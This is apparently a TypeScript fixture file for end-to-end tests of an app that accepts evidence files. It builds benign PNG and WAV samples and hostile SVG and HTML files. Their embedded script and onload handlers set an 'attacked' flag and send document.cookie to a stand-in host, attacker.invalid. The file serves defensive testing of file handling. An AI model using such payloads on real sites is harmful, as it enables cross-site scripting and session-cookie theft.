/** Files that end-to-end tests add as evidence: honest ones of every kind, and some that try to do harm. */
import { closeSync, ftruncateSync, mkdirSync, openSync, writeFileSync, writeSync } from 'node:fs';
import { dirname } from 'node:path';

/** A red picture of one pixel. */
export const onePixelPng = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64'
);

/** What a page does when it runs in the program's window: sets a flag there, and asks for something from outside. */
const attack = `
  try { (window.top || window).attacked = true } catch {}
  try { window.opener && (window.opener.attacked = true) } catch {}
  try { window.attacked = true } catch {}
  fetch('http://attacker.invalid/' + document.cookie);`;

export const hostileSvg = `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="80" onload="${attack.replaceAll('"', '&quot;').replaceAll('&&', '&amp;&amp;')}">
  <script>${attack.replaceAll('&&', '&amp;&amp;')}</script>
  <image href="http://attacker.invalid/svg.png" width="10" height="10"/>
  <rect width="80" height="80" fill="red"/></svg>`;

export const hostileHtml = `<!doctype html><title>A mail</title><script>${attack}</script>
<img src="http://attacker.invalid/html.png" onerror="window.attacked = true"><p>Dear Nadia</p>`;

/** Two seconds of a tone as WAV, 8 kHz, mono, 16 bit: 8,000 samples a second. */
export function tone(seconds: number): Buffer {
  const rate = 8_000;
  const samples = seconds * rate;
  const header = wavHeader(samples * 2, rate);
  const data = Buffer.alloc(samples * 2);
  for (let at = 0; at < samples; at += 1) data.writeInt16LE(Math.round(8_000 * Math.sin(at / 4)), at * 2);
  return Buffer.concat([header, data]);
}

function wavHeader(dataBytes: number, rate: number): Buffer {
  const header = Buffer.alloc(44);
  header.write('RIFF', 0);
  header.writeUInt32LE(36 + dataBytes, 4);
  header.write('WAVEfmt ', 8);
  header.writeUInt32LE(16, 16);
  header.writeUInt16LE(1, 20);
  header.writeUInt16LE(1, 22);
  header.writeUInt32LE(rate, 24);
  header.writeUInt32LE(rate * 2, 28);
  header.writeUInt16LE(2, 32);
  header.writeUInt16LE(16, 34);
  header.write('data', 36);
  header.writeUInt32LE(dataBytes, 40);
  return header;
}

/** Silence as WAV, as large as asked; sparse on disk, so that it costs the machine nothing to make. 44.1 kHz mono. */
export function writeLargeWav(path: string, bytes: number): void {
  writeSparse(path, bytes, wavHeader(bytes - 44, 44_100));
}

/** A file of zeros after `start`. */
export function writeSparse(path: string, bytes: number, start: Uint8Array = Buffer.alloc(0)): void {
  mkdirSync(dirname(path), { recursive: true });
  const file = openSync(path, 'w');
  ftruncateSync(file, bytes);
  writeSync(file, start, 0, start.length, 0);
  closeSync(file);
}

export function writeText(path: string, text: string | Buffer): string {
  writeFileSync(path, text);
  return path;
}
